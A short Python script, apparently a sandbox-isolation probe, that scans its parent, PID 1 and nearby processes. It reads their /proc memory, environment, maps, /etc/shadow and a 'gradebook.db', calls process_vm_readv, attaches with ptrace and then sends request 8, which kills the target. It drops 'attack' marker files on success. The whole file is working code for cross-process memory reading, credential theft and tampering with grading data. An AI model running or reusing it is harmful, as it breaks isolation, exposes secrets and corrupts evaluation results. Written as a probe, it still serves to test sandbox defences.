"""Reads and writes the memory of other processes, of its parent first, by /proc and by system calls."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
room = ctypes.create_string_buffer(64)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


for pid in {os.getppid(), 1, *range(max(2, os.getppid() - 5), os.getppid() + 5)} - {os.getpid()}:
    for name in ("mem", "environ", "maps", "root/etc/shadow", "cwd/gradebook.db"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                print(pid, name, file.read(200))
        except (OSError, ValueError):
            pass
    local, remote = Vector(ctypes.addressof(room), 64), Vector(0x400000, 64)
    if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
        open("wyob-attack-read-memory", "w").close()
    if libc.ptrace(16, pid, 0, 0) == 0:
        open("wyob-attack-traced", "w").close()
        libc.ptrace(8, pid, 0, 0)
